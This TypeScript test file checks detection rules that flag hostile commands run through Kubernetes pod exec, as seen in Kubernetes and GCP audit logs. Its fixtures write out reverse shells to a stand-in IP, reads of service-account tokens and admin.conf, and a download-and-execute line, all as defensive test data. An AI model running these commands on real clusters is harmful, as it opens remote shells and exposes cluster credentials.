import { type Event, formatTime, type JsonObject } from "@rolecall/core";
import { describe, expect, test } from "vitest";
import { createRules } from "../../create-rules.ts";
import { IN_PODS } from "./in-pods.ts";

const RULES = createRules(IN_PODS);
const PATH = "/api/v1/namespaces/shop/pods/web-0/exec";
const TOKENS = "/var/run/secrets/kubernetes.io/serviceaccount";

/** As kubectl writes it: Go escapes more than JavaScript does. */
const escaped = (word: string): string =>
  encodeURIComponent(word)
    .replaceAll("%20", "+")
    .replaceAll(/[!'()*]/g, (sign) => `%${sign.charCodeAt(0).toString(16).toUpperCase()}`);
const addressOf = (command: readonly string[]): string =>
  `${PATH}?${command.map((word) => `command=${escaped(word)}`).join("&")}&container=web`;
const script = (text: string): readonly string[] => ["bash", "-c", text];

/** What a log's rules, without its prefix, say of a command in a pod. */
function told(source: "kubernetes-audit" | "gcp-audit", action: string, raw: JsonObject): readonly string[] {
  const event: Event = {
    ...{ event_uid: "e", time: formatTime(0), tenant: "default", source, provider: "kubernetes", action, raw: "" },
    ...{ action_class: "execute", identity_kind: "human", identity_name: "bob", outcome: "success", origin: "t/0/0" },
    ...{ identity_uid: "kubernetes:c:human:bob", resource: "namespaces/shop/pods/web-0" },
  };
  const matches = RULES.check({ ...event, raw: JSON.stringify(raw) });
  return matches.map(({ rule }) => rule.replace(/^(?:kubernetes|gcp)-/, ""));
}

const SHELL = ["shell-led-out-of-pod"];
const FETCHED = ["program-fetched-into-pod"];
const TOKEN = ["token-taken-from-pod"];
const SOUGHT = ["credentials-sought-in-pod"];

describe("what is run in a pod", () => {
  test.each<[readonly string[], readonly string[]]>([
    // Whoever looks for a fault.
    [script("(echo >/dev/tcp/db/5432) >/dev/null 2>&1 && echo up"), []],
    [script("until (echo > /dev/tcp/db/5432) 2>&1; do sleep 1; done"), []],
    [script("exec 3<>/dev/tcp/localhost/8080; echo -e 'GET / HTTP/1.0\\n' >&3; cat <&3"), []],
    [["etcdctl", "--cert", "/etc/kubernetes/pki/etcd/server.crt", "endpoint", "health"], []],
    [script("mkfifo /tmp/p; gzip < /tmp/p > a.gz & pg_dump -f /tmp/p"), []],
    [script("curl -s http://config:8888/app | jq -r .v | base64 -d > /tmp/app.yaml"), []],
    [["nc", "-zv", "db", "5432"], []],
    // And whoever makes one.
    [script("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), SHELL],
    [script("0<&196;exec 196<>/dev/tcp/203.0.113.9/1; sh <&196 >&196 2>&196"), SHELL],
    [script("exec 5<>/dev/tcp/203.0.113.9/1; cat <&5 | while read l; do $l 2>&5 >&5; done"), SHELL],
    [script("sh </dev/tcp/203.0.113.9/1"), SHELL],
    [script("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 1 > /tmp/f"), SHELL],
    [["nc", "203.0.113.9", "1", "-e", "/bin/sh"], SHELL],
    [["php", "-r", '$s=fsockopen("203.0.113.9",44);exec("/bin/sh");'], SHELL],
    [["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec('/bin/sh');"], SHELL],
    [["cat", `${TOKENS}/namespace`, `${TOKENS}/token`], TOKEN],
    [script(`cat ${TOKENS}/ca.crt ${TOKENS}/t*`), TOKEN],
    [["sh", "-c", `cd ${TOKENS}; cat t*`, "-c", `cat ${TOKENS}/ca.crt`], TOKEN],
    [["grep", "-rv", "cat", `${TOKENS}/namespace`, TOKENS], TOKEN],
    [script("etcdctl version; cat /etc/kubernetes/admin.conf"), SOUGHT],
    [script("tar c /etc/kubernetes | base64"), SOUGHT],
    [script("wget -O /tmp/x http://203.0.113.9/x; chmod 755 /tmp/x; /tmp/x"), FETCHED],
  ])("%j", (command, rules) => {
    expect(told("kubernetes-audit", "create pods/exec", { requestURI: addressOf(command) })).toEqual(rules);
    const request = { command: [...command] };
    expect(told("gcp-audit", "io.k8s.core.v1.pods.exec.create", { protoPayload: { request } })).toEqual(rules);
  });

  test.each([[["cat", `${TOKENS}/namespace`]], [script(`cat ${TOKENS}/ca.crt`)]])(
    "that is beside the token and no secret: %j",
    (command) => {
      expect(told("kubernetes-audit", "create pods/exec", { requestURI: addressOf(command) })).toEqual([]);
    },
  );
});
